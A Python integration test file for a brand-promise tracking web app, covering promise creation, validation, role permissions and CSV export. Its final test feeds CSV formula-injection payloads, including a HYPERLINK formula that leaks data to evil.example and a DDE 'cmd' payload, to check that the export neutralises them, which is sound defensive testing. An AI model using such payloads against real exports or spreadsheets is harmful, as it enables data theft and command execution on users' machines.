"""PR registers and edits the brand's promises in the app; the pipeline matches mentions to them at once."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import String, select
from sqlalchemy.orm import Session, sessionmaker

from ombuds.accounts import actions as accounts
from ombuds.accounts.models import Brand, Role, Team
from ombuds.mentions.actions import get_or_create_source, ingest_mentions
from ombuds.mentions.schemas import IncomingMention, MentionCreate
from ombuds.pipeline.runner_inline import run_until_idle
from ombuds.promises.models import Promise, PromiseExample, PromiseMatch
from ombuds.promises.pages import KEY_MAX_CHARS, NAME_MAX_CHARS
from tests.integration.test_web_cases import PASSWORD, sign_in


@pytest.fixture
def people(session: Session, brand: Brand, team: Team) -> Brand:
    for email, role in (("priya@skyways.example", Role.PR), ("ada@skyways.example", Role.AGENT)):
        user = accounts.create_user(session, email=email, name=email.split("@")[0], password=PASSWORD)
        accounts.add_membership(session, user=user, brand=brand, role=role)
    session.commit()
    return brand


def _csrf(client: TestClient, url: str) -> str:
    page = client.get(url)
    assert page.status_code == 200, page.text
    found = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert found
    return found.group(1)


def _promises(factory: sessionmaker[Session]) -> list[Promise]:
    with factory() as session:
        return list(session.scalars(select(Promise)))


def test_pr_registers_a_promise_that_the_next_mentions_are_matched_to(
    client: TestClient, session_factory: sessionmaker[Session], people: Brand
) -> None:
    sign_in(client, "priya@skyways.example")
    form = {
        "text": "Your bags arrive with you",
        "campaign": "Travel light",
        "owner": "Baggage Services",
        "channels": "tv, social",
        "starts_on": "2026-03-01",
        "contradicts": "My suitcase never arrived in Lisbon\nBag lost again on the way home",
        "csrf_token": _csrf(client, "/promises/new"),
    }
    answer = client.post("/promises/new", data=form)

    assert answer.status_code == 303, answer.text
    [promise] = _promises(session_factory)
    assert answer.headers["location"] == f"/promises/{promise.id}"
    assert (promise.key, promise.campaign, promise.channels) == (
        "your-bags-arrive-with-you",
        "Travel light",
        ["tv", "social"],
    )
    assert promise.starts_at == datetime(2026, 3, 1, tzinfo=UTC)
    with session_factory() as session:
        kinds = sorted(e.kind.value for e in session.scalars(select(PromiseExample)))
    assert kinds == ["contradicts", "contradicts"]
    assert "Your bags arrive with you" in client.get("/promises").text
    shown = client.get(f"/promises/{promise.id}").text
    assert "Travel light · owner Baggage Services · on TV, Social · since Sun 01 Mar 2026" in shown

    # Editing shows what the promise already learnt from; new lines add to it.
    edit = f"/promises/{promise.id}/edit"
    taught = client.get(edit).text
    assert "2 messages that contradict it" in taught
    assert "My suitcase never arrived in Lisbon" in taught
    assert "More messages that confirm it" in taught
    client.post(
        edit,
        data={"text": form["text"], "is_active": "true", "confirms": "Bag was first off the belt",
              "csrf_token": _csrf(client, edit)},
    )  # fmt: skip
    taught = client.get(edit).text
    assert "1 message that confirms it" in taught
    assert "2 messages that contradict it" in taught

    with session_factory.begin() as session:
        source = get_or_create_source(session, brand_id=people.id, kind="api", name="feed")
        created = MentionCreate(
            external_id="t-1",
            author="mara",
            text="@Skyways day three and my bag still has not arrived in Lisbon",
            created_at=datetime(2026, 3, 4, 9, tzinfo=UTC),
            channel="twitter",
        )
        ingest_mentions(
            session, source=source, mentions=[IncomingMention(created, json.dumps({}).encode(), "json")]
        )
    run_until_idle(session_factory)
    with session_factory() as session:
        match = session.scalars(select(PromiseMatch)).one()
        assert match.promise_id == promise.id
        assert match.stance.value == "contradicts"


def test_a_bad_date_is_named_and_nothing_is_saved(
    client: TestClient, session_factory: sessionmaker[Session], people: Brand
) -> None:
    sign_in(client, "priya@skyways.example")
    token = _csrf(client, "/promises/new")
    answer = client.post(
        "/promises/new", data={"text": "On time, every time", "starts_on": "next spring", "csrf_token": token}
    )

    assert answer.status_code == 400
    assert "starts on: &#39;next spring&#39; is not a date" in answer.text
    assert 'value="On time, every time"' in answer.text, "what was typed is kept"
    assert _promises(session_factory) == []


@pytest.mark.parametrize(
    ("field", "most"), [("key", KEY_MAX_CHARS), ("campaign", NAME_MAX_CHARS), ("owner", NAME_MAX_CHARS)]
)
def test_a_key_campaign_or_owner_longer_than_its_column_is_named_and_nothing_is_saved(
    client: TestClient, session_factory: sessionmaker[Session], people: Brand, field: str, most: int
) -> None:
    sign_in(client, "priya@skyways.example")
    new = client.post(
        "/promises/new",
        data={
            "text": "On time, every time",
            field: "x" * (most + 1),
            "csrf_token": _csrf(client, "/promises/new"),
        },
    )

    assert new.status_code == 400
    assert f"{field}: at most {most} characters (this has {most + 1})" in new.text
    assert 'value="On time, every time"' in new.text, "what was typed is kept"
    assert _promises(session_factory) == []

    fits = client.post(
        "/promises/new",
        data={"text": "On time, every time", field: "x" * most, "csrf_token": _csrf(client, "/promises/new")},
    )
    assert fits.status_code == 303, fits.text
    [promise] = _promises(session_factory)
    edit = f"/promises/{promise.id}/edit"
    edited = client.post(
        edit, data={"text": "Always on time", field: "y" * (most + 1), "csrf_token": _csrf(client, edit)}
    )
    assert edited.status_code == 400
    assert f"{field}: at most {most} characters" in edited.text
    [unchanged] = _promises(session_factory)
    assert (unchanged.text, getattr(unchanged, field)) == ("On time, every time", "x" * most)


def test_the_form_s_limits_are_the_columns_lengths() -> None:
    lengths = []
    for name in ("key", "campaign", "owner"):
        kind = Promise.__table__.c[name].type
        assert isinstance(kind, String)
        lengths.append(kind.length)
    assert lengths == [KEY_MAX_CHARS, NAME_MAX_CHARS, NAME_MAX_CHARS]


def test_the_form_s_hints_allow_what_the_server_accepts_and_no_more(
    client: TestClient, people: Brand
) -> None:
    sign_in(client, "priya@skyways.example")
    page = client.get("/promises/new")

    assert page.status_code == 200
    hints = {
        name: int(most)
        for name, most in re.findall(r'<input id="(\w+)" name="\1"[^>]*?maxlength="(\d+)"', page.text)
    }
    assert {name: hints.get(name) for name in ("key", "campaign", "owner")} == {
        "key": KEY_MAX_CHARS,
        "campaign": NAME_MAX_CHARS,
        "owner": NAME_MAX_CHARS,
    }


def test_pr_pauses_a_promise_and_agents_cannot_edit(
    client: TestClient, session_factory: sessionmaker[Session], people: Brand
) -> None:
    sign_in(client, "priya@skyways.example")
    client.post(
        "/promises/new", data={"text": "On time, every time", "csrf_token": _csrf(client, "/promises/new")}
    )
    [promise] = _promises(session_factory)
    edit = f"/promises/{promise.id}/edit"
    answer = client.post(
        edit, data={"text": "Our flights leave and arrive on time", "csrf_token": _csrf(client, edit)}
    )
    assert answer.status_code == 303, answer.text
    [paused] = _promises(session_factory)
    assert (paused.text, paused.is_active) == ("Our flights leave and arrive on time", False)

    client.post("/logout", data={"csrf_token": _csrf(client, "/promises")})
    sign_in(client, "ada@skyways.example")
    assert client.get(edit).status_code == 403
    assert 'data-testid="edit-promise"' not in client.get(f"/promises/{promise.id}").text


def test_a_brand_without_promises_gets_a_scorecard_that_says_how_to_start(
    client: TestClient, session_factory: sessionmaker[Session], people: Brand
) -> None:
    sign_in(client, "priya@skyways.example")
    page = client.get("/promises")

    assert page.status_code == 200, page.text
    assert "No promises yet" in page.text
    assert 'href="/promises/new"' in page.text, "PR is pointed at the form"

    with TestClient(client.app, follow_redirects=False) as agent:
        sign_in(agent, "ada@skyways.example")
        page = agent.get("/promises")
    assert page.status_code == 200, page.text
    assert "takes the PR, manager or admin role" in page.text, "an agent learns who can add one"


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
    client: TestClient, session_factory: sessionmaker[Session], people: Brand
) -> None:
    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Our bags promise")'
    sign_in(client, "priya@skyways.example")
    form = {
        "text": hostile,
        "campaign": "@SUM(1+1)*cmd|' /C calc'!A0",
        "owner": "-2+3",
        "csrf_token": _csrf(client, "/promises/new"),
    }
    assert client.post("/promises/new", data=form).status_code == 303

    export = client.get("/promises.csv")

    assert export.status_code == 200
    [header, row] = list(csv.reader(io.StringIO(export.text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["text"] == "'" + hostile
    assert cells["campaign"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["key"][0] not in "=+-@"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
